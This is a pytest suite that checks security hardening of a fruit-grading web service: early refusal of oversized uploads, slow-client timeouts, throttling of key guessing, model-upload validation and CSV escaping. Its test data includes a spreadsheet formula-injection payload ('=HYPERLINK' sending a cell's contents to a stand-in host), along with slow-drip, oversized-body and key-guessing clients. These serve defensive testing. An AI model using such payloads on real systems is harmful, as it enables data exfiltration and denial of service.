"""Issue 25's findings, each with its test: bodies never read before their key, limits from the
request head, slow clients cut off, key guessing throttled, the websocket stream on a real
server, readiness on a full disk (real `grader serve` processes, marked slow); durability, model
and metadata checks, clips, idempotency binding, CSV escaping and strict fields (in-process)."""

from __future__ import annotations

import csv
import io
import json
import re
import socket
import threading
import time

import httpx
import pytest

from datasets.synthetic import make_fruit_image
from service.process import ServerProcess

from .conftest import API_KEYS, headers, jpeg_bytes
from .hostile_corpus import avi_with_huge_frames, broken_models, mjpeg_avi, model_files, onnx_graph, shipped_metadata

KEYS_ENV = {"GRADER_API_KEYS": ",".join(f"{r}:{k}" for r, k in API_KEYS.items())}
MB = 1024 * 1024


# ------------------------------------------------------------------ helpers for raw HTTP


def bytes_received(url: str) -> float:
    text = httpx.get(url + "/metrics", timeout=10).text
    return float(re.search(r"^grader_http_bytes_received_total (\S+)$", text, re.M).group(1))


def rss_bytes(pid: int) -> int:
    for line in open(f"/proc/{pid}/status"):
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    raise AssertionError("no VmRSS")


def read_answer(sock: socket.socket, timeout: float) -> tuple[int, dict[str, str], bytes]:
    """(status, headers, body) of one HTTP answer; raises on a connection dropped without one."""
    sock.settimeout(timeout)
    got = b""
    while b"\r\n\r\n" not in got:
        chunk = sock.recv(65536)
        if not chunk:
            raise ConnectionError(f"closed without an answer (got {got[:200]!r})")
        got += chunk
    head, _, rest = got.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    hdrs = {k.strip().lower(): v.strip() for k, _, v in (ln.partition(":") for ln in lines[1:])}
    length = int(hdrs.get("content-length", "0"))
    while len(rest) < length:
        chunk = sock.recv(65536)
        if not chunk:
            break
        rest += chunk
    return int(lines[0].split()[1]), hdrs, rest


MULTIPART_START = b'--b\r\nContent-Disposition: form-data; name="image"; filename="a.jpg"\r\nContent-Type: image/jpeg\r\n\r\n'


def post_raw(
    port: int,
    path: str,
    body_len: int,
    ctype: str,
    key: str | None = None,
    chunked: bool = False,
    stop_after: int | None = None,
    timeout: float = 10.0,
) -> tuple[int, dict[str, str], bytes, float]:
    """Send a request head announcing ``body_len`` bytes, then the body from a thread (stopping
    after ``stop_after`` bytes, or when the server stops reading); (status, headers, body, seconds
    until the answer)."""
    sock = socket.create_connection(("127.0.0.1", port))
    framing = "Transfer-Encoding: chunked" if chunked else f"Content-Length: {body_len}"
    head = (
        f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: {ctype}\r\n{framing}\r\n"
        + (f"X-API-Key: {key}\r\n" if key else "")
        + "\r\n"
    ).encode()
    sock.sendall(head)
    answered = threading.Event()

    def send_body() -> None:
        block = b"x" * 65536
        sent = 0
        try:
            if ctype.startswith("multipart/") and not chunked:  # a well-formed start: the parser waits for the rest
                sock.sendall(MULTIPART_START)
                sent = len(MULTIPART_START)
            while sent < (stop_after if stop_after is not None else body_len) and not answered.is_set():
                piece = block[: min(len(block), body_len - sent)]
                sock.sendall(b"%x\r\n%s\r\n" % (len(piece), piece) if chunked else piece)
                sent += len(piece)
        except OSError:  # the server answered and closed: what a refused upload should see
            pass

    t0 = time.monotonic()
    sender = threading.Thread(target=send_body, daemon=True)
    sender.start()
    try:
        status, hdrs, body = read_answer(sock, timeout)
        took = time.monotonic() - t0
    finally:
        answered.set()
        sock.close()
        sender.join(timeout=10)
    return status, hdrs, body, took


# ------------------------------------------------------------------ 1, 9, 10: the HTTP layer, on a real server


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    env = {**KEYS_ENV, "GRADER_BODY_READ_TIMEOUT_S": "2"}
    with ServerProcess(tmp_path_factory.mktemp("hardening") / "var", env) as srv:
        yield srv


@pytest.mark.slow
def test_an_unauthenticated_50_mb_upload_is_refused_before_its_body_is_read(server):
    """Issue 25, point 1: the 401 comes from the head; the server reads under 1 MB of the 50 MB
    and its memory stays flat, for a multipart upload and for a JSON body."""
    rss0 = rss_bytes(server.proc.pid)
    for path, ctype in (("/v1/grade", "multipart/form-data; boundary=b0undary"), ("/v1/lots", "application/json")) * 2:
        before = bytes_received(server.url)
        status, hdrs, body, took = post_raw(server.port, path, 50 * MB, ctype)
        read = bytes_received(server.url) - before
        assert status == 401 and json.loads(body)["error"]["code"] == "unauthenticated"
        assert hdrs.get("connection") == "close"
        assert read < 1 * MB, f"the server read {read:.0f} bytes before refusing {path}"
        assert took < 5
    assert rss_bytes(server.proc.pid) - rss0 < 30 * MB
    # a wrong key, and a role not admitted, are refused just as early
    for key, want in (("wrong-key-but-long-enough-0", 401), (API_KEYS["inspector"], 403)):
        before = bytes_received(server.url)
        status, _, _, _ = post_raw(server.port, "/v1/grade", 50 * MB, "multipart/form-data; boundary=b", key=key)
        assert status == want and bytes_received(server.url) - before < 1 * MB


@pytest.mark.slow
def test_bodies_over_the_routes_limit_are_refused_from_their_head(server):
    # Content-Length over the route's limit: 413 at once, with a key
    before = bytes_received(server.url)
    status, hdrs, body, _ = post_raw(server.port, "/v1/lots", 50 * MB, "application/json", key=API_KEYS["inspector"])
    assert status == 413 and json.loads(body)["error"]["code"] == "body_too_large" and hdrs["connection"] == "close"
    status, _, _, _ = post_raw(server.port, "/v1/grade", 200 * MB, "multipart/form-data; boundary=b", key=API_KEYS["camera"])
    assert status == 413
    assert bytes_received(server.url) - before < 2 * MB
    # a chunked body (no Content-Length) is stopped at the limit (64 KiB for JSON)
    status, hdrs, body, _ = post_raw(server.port, "/v1/lots", 10 * MB, "application/json", key=API_KEYS["inspector"], chunked=True)
    assert status == 413 and hdrs["connection"] == "close"
    # within the limits all is as before
    r = httpx.post(server.url + "/v1/lots", json={"id": "L-ok"}, headers={"X-API-Key": API_KEYS["inspector"]})
    assert r.status_code == 201


@pytest.mark.slow
def test_a_client_that_stops_sending_is_cut_off(server):
    """Issue 25, point 10 (GRADER_BODY_READ_TIMEOUT_S=2 here): a client that stops mid-body gets
    408 and its connection closed; one that never finishes its request head is disconnected."""
    status, hdrs, body, took = post_raw(
        server.port, "/v1/grade", 1 * MB, "multipart/form-data; boundary=b", key=API_KEYS["camera"], stop_after=64 * 1024, timeout=15
    )
    assert status == 408 and hdrs["connection"] == "close" and json.loads(body)["error"]["code"] == "body_timeout"
    assert 1.5 < took < 8
    # a body dripped 100 bytes every 0.3 s: under the minimum rate once the 2 s have passed
    with socket.create_connection(("127.0.0.1", server.port)) as s:
        s.sendall(
            (
                f"POST /v1/grade HTTP/1.1\r\nHost: x\r\nX-API-Key: {API_KEYS['camera']}\r\n"
                "Content-Type: multipart/form-data; boundary=b\r\nContent-Length: 1000000\r\n\r\n"
            ).encode()
            + MULTIPART_START
        )
        t0, answer = time.monotonic(), b""
        s.settimeout(0.3)
        while b"\r\n\r\n" not in answer and time.monotonic() - t0 < 15:
            try:
                s.sendall(b"x" * 100)
                answer += s.recv(65536)
            except socket.timeout:
                continue
            except OSError:
                break
        assert answer.startswith(b"HTTP/1.1 408") and time.monotonic() - t0 < 8, answer[:200]
    with socket.create_connection(("127.0.0.1", server.port)) as s:
        s.sendall(b"POST /v1/grade HTTP/1.1\r\nHost: x\r\n")  # and nothing more
        s.settimeout(15)
        t0 = time.monotonic()
        assert s.recv(100) == b""  # closed by the server
        assert time.monotonic() - t0 < 8


@pytest.mark.slow
def test_the_websocket_stream_grades_frames_on_a_real_server(server, tmp_path):
    """Issue 25, point 6: the handshake succeeds on `grader serve` (the websockets package is a
    dependency) and a fruit riding through the frames is graded."""
    import cv2
    from websockets.exceptions import InvalidStatus
    from websockets.sync.client import connect

    from datasets.video import make_conveyor_clip

    clip = make_conveyor_clip(tmp_path / "belt.avi", lanes=1, seconds=4, seed=2)
    cap = cv2.VideoCapture(str(clip.path))
    frames = []
    while (got := cap.read())[0]:
        frames.append(cv2.imencode(".jpg", got[1])[1].tobytes())
    ws_url = server.url.replace("http://", "ws://") + f"/v1/cameras/live-h/stream?mm_per_px={clip.mm_per_px}&lanes=1&fps={clip.fps}"
    fruits, summary = [], None
    with connect(ws_url, additional_headers={"X-API-Key": API_KEYS["camera"]}, max_size=None, open_timeout=30) as ws:
        for b in frames:
            ws.send(b)
        ws.send("end")
        while summary is None:
            msg = json.loads(ws.recv(timeout=120))
            if msg["type"] == "fruit":
                fruits.append(msg)
            elif msg["type"] == "summary":
                summary = msg
            else:
                raise AssertionError(msg)
    assert summary["frames"] == len(frames) and summary["graded"] == len(clip.fruits) >= 1
    assert all(f["grade"] for f in fruits)
    for key in (None, API_KEYS["inspector"], "wrong-key-but-long-enough-0"):
        with pytest.raises(InvalidStatus):
            with connect(ws_url, additional_headers={"X-API-Key": key} if key else {}, open_timeout=30):
                pass
    assert "No supported WebSocket library detected" not in server.log() and "deprecated" not in server.log()


@pytest.mark.slow
def test_key_guessing_is_throttled_and_readiness_needs_room_for_the_largest_upload(tmp_path):
    """Issue 25, points 9, 7 and 10's connection limit (one server: guessing blocks its address)."""
    env = {
        **KEYS_ENV,
        "GRADER_AUTH_FAILURE_BURST": "20",
        "GRADER_AUTH_FAILURES_PER_MIN": "6",
        "GRADER_MAX_CONNECTIONS": "4",
        # a largest accepted upload bigger than any disk: the disk counts as full
        "GRADER_MAX_VIDEO_BYTES": str(10**15),
    }
    with ServerProcess(tmp_path / "var", env) as srv, httpx.Client(base_url=srv.url, timeout=30) as c:
        idle = [socket.create_connection(("127.0.0.1", srv.port)) for _ in range(4)]
        try:
            time.sleep(0.3)
            assert httpx.get(srv.url + "/healthz", timeout=10).status_code == 503  # the fifth connection
        finally:
            for s in idle:
                s.close()
        time.sleep(0.5)
        ready = c.get("/readyz")
        assert ready.status_code == 503 and ready.json()["images"].startswith("full") and ready.json()["database"].startswith("full")
        assert c.get("/healthz").status_code == 200
        codes = [c.get("/v1/results", headers={"X-API-Key": f"guess-{i:04d}-0123456789abcdef"}).status_code for i in range(200)]
        assert codes[:20] == [401] * 20 and set(codes[20:]) == {429}
        blocked = c.get("/v1/results", headers={"X-API-Key": API_KEYS["inspector"]})  # the address is blocked, whatever the key
        assert blocked.status_code == 429 and int(blocked.headers["retry-after"]) >= 1
    assert not any(f"guess-{i:04d}" in srv.log() for i in range(200))


# ------------------------------------------------------------------ 3, 4: model uploads


def upload(client, files):
    return client.post("/v1/models", files=files, headers=headers("trainer"))


@pytest.mark.parametrize("name", sorted(broken_models()))
def test_broken_models_are_422_naming_the_problem_and_leave_nothing(client, settings, name):
    pytest.importorskip("onnx")
    onnx_bytes, meta, names = broken_models()[name]
    r = upload(client, model_files(onnx_bytes, meta))
    assert r.status_code == 422, r.text
    err = r.json()["error"]
    assert err["code"] == "invalid_model_artifact" and names in err["message"], err
    models = settings.data_dir / "models"
    assert not list(models.glob(".upload-*")) if models.exists() else True
    assert len(client.get("/v1/models", headers=headers("trainer")).json()["models"]) == 3  # the shipped ones only


def test_a_model_is_first_loaded_in_a_process_of_its_own(settings, tmp_path):
    """A graph that would crash or hang ONNX Runtime takes a child process down, not the service:
    the upload is refused (422) when the check fails, crashes or outruns its time."""
    from fastapi.testclient import TestClient

    from grader.errors import InvalidModelArtifact
    from service.app import create_app
    from service.model_check import check_in_child

    from .test_models import artifact

    with pytest.raises(InvalidModelArtifact, match="no model artifact"):
        check_in_child(tmp_path, 120)
    with TestClient(create_app(settings.model_copy(update={"model_check_timeout_s": 0.001}))) as c:
        r = upload(c, model_files(*artifact("0.9.1-slow")))
        assert r.status_code == 422 and "took longer" in r.json()["error"]["message"]
        assert not list((settings.data_dir / "models").glob(".upload-*"))


def test_oversized_metadata_is_named_as_metadata(client):
    pytest.importorskip("onnx")
    r = upload(client, model_files(onnx_graph(), b" " * (1024 * 1024 + 1)))
    assert r.status_code == 413 and r.json()["error"]["code"] == "metadata_too_large" and r.json()["error"]["field"] == "metadata"


def test_promotion_refuses_a_model_without_its_metrics(client):
    from .test_models import artifact

    onnx_bytes, meta = artifact("0.9.0-nometrics", metrics={"val": {}})
    assert upload(client, model_files(onnx_bytes, meta)).status_code == 201
    r = client.post("/v1/models/apple-defect@0.9.0-nometrics/promote", headers=headers("trainer"))
    assert r.status_code == 422 and r.json()["error"]["code"] == "model_not_promotable" and "metrics.test" in r.json()["error"]["message"]
    assert client.get("/healthz").json()["model"]["version"] != "0.9.0-nometrics"


def test_metadata_schema_accepts_every_shipped_model():
    from inference.metadata import validate_artifact as validate_metadata
    from service.model_meta import promotion_problem
    from service.settings import SHIPPED_MODELS

    for path in SHIPPED_MODELS.glob("*/*/metadata.json"):
        meta = json.loads(path.read_text())
        meta.setdefault("parity", shipped_metadata()["parity"] if len(meta["classes"]) == 2 else {"logits": [[0.0] * len(meta["classes"])]})
        validate_metadata(meta)
        assert promotion_problem(meta) is None, path


# ------------------------------------------------------------------ 5: clips


def post_clip(client, data: bytes):
    return client.post(
        "/v1/cameras/c-h/video", files={"video": ("c.avi", data, "video/x-msvideo")}, data={"mm_per_px": "0.6"}, headers=headers()
    )


def test_clip_frames_over_the_pixel_limit_are_refused_before_decoding(client, tmp_path, monkeypatch):
    import cv2

    avi = mjpeg_avi(tmp_path / "c.avi")
    opened = []
    real = cv2.VideoCapture
    monkeypatch.setattr(cv2, "VideoCapture", lambda *a: opened.append(a) or real(*a))
    for data, where in ((avi_with_huge_frames(avi), "frame 0"), (avi_with_huge_frames(avi, header_too=True), "frame size")):
        r = post_clip(client, data)
        assert r.status_code == 422 and r.json()["error"]["code"] == "video_frame_too_large" and where in r.json()["error"]["message"]
    assert opened == [], "no decoder may see a clip whose frames are over the limit"
    r = post_clip(client, jpeg_bytes(make_fruit_image(seed=1)[0]))
    assert r.status_code == 422 and "still image" in r.json()["error"]["message"] and opened == []
    assert post_clip(client, avi).status_code == 200  # a small clip of an empty belt passes


def test_clip_decoding_has_a_time_budget(settings, tmp_path):
    from fastapi.testclient import TestClient

    from service.app import create_app

    with TestClient(create_app(settings.model_copy(update={"video_budget_s": 1e-9}))) as c:
        r = post_clip(c, mjpeg_avi(tmp_path / "c.avi", frames=4))
    assert r.status_code == 422 and r.json()["error"]["code"] == "video_too_slow"


# ------------------------------------------------------------------ 8: durability


def test_sqlite_syncs_every_commit_and_the_image_directory(settings, monkeypatch, tmp_path):
    from store import images
    from store.engine import make_engine

    engine = make_engine(f"sqlite:///{tmp_path / 'g.db'}")
    with engine.connect() as conn:
        assert conn.exec_driver_sql("PRAGMA synchronous").scalar() == 2  # FULL
    synced = []
    monkeypatch.setattr(images, "fsync_dir", lambda d: synced.append(d))
    store = images.ImageStore(tmp_path / "images")
    sha, path = store.put(jpeg_bytes(make_fruit_image(seed=1)[0]), "image/jpeg")
    assert path.parent in synced and path.parent.parent in synced  # the rename, and the folders made for it


def test_a_full_database_answers_storage_full_and_leaves_no_orphan_image(client, settings):
    from sqlalchemy import event

    ctx = client.app.state.ctx
    engine = ctx.repo.engine
    with engine.connect() as conn:
        pages = conn.exec_driver_sql("PRAGMA page_count").scalar()

    @event.listens_for(engine, "connect")
    def _cap(dbapi_conn, _record):  # the database may not grow: as on a full disk
        dbapi_conn.execute(f"PRAGMA max_page_count={pages}")

    engine.dispose()
    big = jpeg_bytes(make_fruit_image(seed=8, diameter_mm=70, mm_per_px=0.3)[0])
    r = None
    for i in range(40):  # until the rows no longer fit
        r = client.post(
            "/v1/grade",
            files={"image": ("f.jpg", big, "image/jpeg")},
            data={"mm_per_px": "0.3", "camera_id": "c", "fruit_id": f"f{i}" + "x" * 90},
            headers=headers(),
        )
        if r.status_code != 200:
            break
    assert r.status_code == 507 and r.json()["error"]["code"] == "storage_full", r.text
    other = jpeg_bytes(make_fruit_image(seed=9, diameter_mm=66, mm_per_px=0.3)[0])
    r = client.post("/v1/grade", files={"image": ("f.jpg", other, "image/jpeg")}, data={"mm_per_px": "0.3"}, headers=headers())
    assert r.status_code == 507
    import hashlib

    assert not list(settings.images_dir.rglob(hashlib.sha256(other).hexdigest() + "*")), "no orphan image"
    event.remove(engine, "connect", _cap)
    engine.dispose()


# ------------------------------------------------------------------ 11, 12, 13


def grade(client, data: bytes, key: str = "camera", **form):
    return client.post("/v1/grade", files={"image": ("f.jpg", data, "image/jpeg")}, data={"mm_per_px": "0.3", **form}, headers=headers(key))


def test_csv_report_escapes_formula_cells(client):
    client.post("/v1/lots", json={"id": "L-csv"}, headers=headers())
    evil = '=HYPERLINK("http://x/?"&A1,"x")'
    data = jpeg_bytes(make_fruit_image(seed=4)[0])
    for fid in (evil, "+1", "-2", "@SUM(A1)", "plain"):
        assert grade(client, data, lot_id="L-csv", camera_id="c", fruit_id=fid).status_code == 200
    text = client.get("/v1/lots/L-csv/report?format=csv", headers=headers("inspector")).text
    ids = [row["fruit_id"] for row in csv.DictReader(io.StringIO(text))]
    assert ids == ["'" + evil, "'+1", "'-2", "'@SUM(A1)", "plain"]
    assert all(not row.startswith(("=", "+", "-", "@")) for line in text.splitlines() for row in line.split(","))


def test_idempotency_keys_are_bound_to_their_request_and_their_api_key(client, settings):
    from fastapi.testclient import TestClient

    from service.app import create_app

    a = jpeg_bytes(make_fruit_image(seed=1)[0])
    b = jpeg_bytes(make_fruit_image(seed=2)[0])
    key = {"Idempotency-Key": "k-bound-1"}
    first = client.post("/v1/grade", files={"image": ("f.jpg", a, "image/jpeg")}, data={"mm_per_px": "0.3"}, headers={**headers(), **key})
    again = client.post("/v1/grade", files={"image": ("f.jpg", a, "image/jpeg")}, data={"mm_per_px": "0.3"}, headers={**headers(), **key})
    assert again.json()["id"] == first.json()["id"] and again.json()["replayed"]
    other = client.post("/v1/grade", files={"image": ("f.jpg", b, "image/jpeg")}, data={"mm_per_px": "0.3"}, headers={**headers(), **key})
    assert other.status_code == 422 and other.json()["error"]["code"] == "idempotency_key_reused"
    other_field = client.post(
        "/v1/grade", files={"image": ("f.jpg", a, "image/jpeg")}, data={"mm_per_px": "0.4"}, headers={**headers(), **key}
    )
    assert other_field.status_code == 422
    # the same camera_id + fruit_id with another image is a different request too
    assert grade(client, a, camera_id="c1", fruit_id="F-1").status_code == 200
    assert grade(client, b, camera_id="c1", fruit_id="F-1").json()["error"]["code"] == "idempotency_key_reused"
    # another API key never replays this one's result: its key is its own
    second_cam = "camera-two-key-0123456789"
    s = settings.model_copy(update={"api_keys": settings.api_keys + f",camera:{second_cam}"})
    with TestClient(create_app(s)) as c2:
        r = c2.post(
            "/v1/grade", files={"image": ("f.jpg", a, "image/jpeg")}, data={"mm_per_px": "0.3"}, headers={"X-API-Key": second_cam, **key}
        )
        assert r.status_code == 200 and not r.json()["replayed"] and r.json()["id"] != first.json()["id"]


@pytest.mark.parametrize(
    "field,value,code",
    [
        ("mm_per_px", "1e-300", "out_of_range"),
        ("mm_per_px", "6", "out_of_range"),
        ("mm_per_px", "nan", "invalid_number"),
        ("brix", "true", "invalid_number"),
        ("brix", "35.5", "out_of_range"),
        ("reference_diameter_mm", "1e9", "out_of_range"),
    ],
)
def test_implausible_form_numbers_are_refused_naming_the_field(client, field, value, code):
    r = grade(client, jpeg_bytes(make_fruit_image(seed=1)[0]), **{field: value})
    assert r.status_code == 422 and r.json()["error"]["field"] == field and r.json()["error"]["code"] == code


@pytest.mark.parametrize(
    "body,field,code",
    [
        ({"brix": True, "fruit_id": "F"}, "brix", "invalid_type"),
        ({"brix": "12", "fruit_id": "F"}, "brix", "invalid_type"),
        ({"brix": 36, "fruit_id": "F"}, "brix", "out_of_range"),
        ({"brix": 12, "temperature_c": 1e308, "fruit_id": "F"}, "temperature_c", "out_of_range"),
        ({"brix": 12, "temperature_c": True, "fruit_id": "F"}, "temperature_c", "invalid_type"),
    ],
)
def test_json_numbers_are_strict(client, body, field, code):
    r = client.post("/v1/brix", json=body, headers=headers())
    assert r.status_code == 422 and r.json()["error"]["field"] == field and r.json()["error"]["code"] == code
    assert client.post("/v1/brix", json={"brix": 12, "fruit_id": "F"}, headers=headers()).status_code == 200  # an int is a number


def test_the_physical_ranges_are_one_table():
    from service.limits import PHYSICAL, OutOfRange, check

    assert {"mm_per_px", "brix", "temperature_c", "reference_diameter_mm", "belt_speed_mm_s"} <= set(PHYSICAL)
    for name, r in PHYSICAL.items():
        assert check(name, r.lo) == r.lo and check(name, r.hi) == r.hi
        for bad in (True, r.hi * 2 + 1, float("nan"), "1"):
            with pytest.raises(OutOfRange):
                check(name, bad)
